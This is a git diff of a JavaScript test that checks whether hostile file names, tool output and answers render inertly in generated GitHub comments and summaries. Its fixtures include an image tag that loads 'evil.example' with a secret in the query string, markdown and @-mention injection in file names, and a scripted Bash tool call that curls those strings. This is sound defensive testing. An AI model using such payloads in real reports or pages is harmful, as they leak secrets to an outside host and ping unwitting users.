@@ -17,6 +17,7 @@ import { renderComment } from '../../src/report/github/comment-render.js';
 import { renderSummary } from '../../src/report/summary.js';
 import { startScriptedModel } from '../../support/scripted-model/scripted-model.js';
 import { runProductSession } from '../fakes/product-session.js';
+import { bash, call, turn } from '../support/scripted-turns.js';
 
 const IMG = '<img src="https://evil.example/?d=SECRET">';
 const HOSTILE = [
@@ -54,8 +55,8 @@ test('file names, sandbox violations, denials, errors and the answer render iner
   const names = ['x` <img src=https:evil.example> `y', 'a` _@someone_ `b', 'c`@lonely'];
   const command = `mkdir -p out && ${names.map((n) => `touch 'out/${n}'`).join(' && ')}`;
   const model = await startScriptedModel([
-    { content: [{ type: 'tool_use', id: 'toolu_1', name: 'Bash', input: { command } }] },
-    { content: [{ type: 'tool_use', id: 'toolu_2', name: 'Bash', input: { command: `curl '${HOSTILE.join(' ')}'` } }] },
+    turn(call('Bash', { command }, 'toolu_1')),
+    bash(`curl '${HOSTILE.join(' ')}'`, 'toolu_2'),
     { content: [{ type: 'text', text: HOSTILE.join('\n') }] },
   ]);
   t.after(() => model.close());
